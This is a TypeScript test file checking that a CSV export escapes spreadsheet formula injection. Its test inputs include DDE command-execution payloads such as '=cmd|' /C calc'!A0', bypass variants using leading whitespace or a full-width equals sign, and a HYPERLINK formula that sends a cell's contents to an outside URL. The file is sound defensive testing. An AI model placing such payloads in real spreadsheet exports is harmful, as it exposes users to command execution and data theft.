import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { csvOf } from '../../scripts/ground/csv.ts'

/** What a spreadsheet program finds in its cells. */
const cells = (row: readonly (string | number)[]): string[] =>
  (parse(csvOf([row]), { bom: true }) as string[][])[0] ?? []

describe('a file for spreadsheets', () => {
  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '\n=1+1',
    '＝1+1',
    '-',
    '-4.5 =1',
    '=HYPERLINK("https://example.org/?"&A1,"here")',
  ])('makes a text of %j', (text) => {
    expect(cells([text, 'b'])).toEqual([`'${text}`, 'b'])
  })

  it.each(['-4.5', '-4.5%', '-£1,200', '-1 200,5 €', '+3', "-1'000"])('leaves the number %j', (text) => {
    expect(cells([text])).toEqual([text])
  })

  it('leaves numbers and other texts as they are', () => {
    expect(cells([-4.5, 12, 'Use, in all', 'says "no"', 'a=b', 'x;=1', ' a '])).toEqual([
      '-4.5',
      '12',
      'Use, in all',
      'says "no"',
      'a=b',
      'x;=1',
      ' a ',
    ])
  })
})
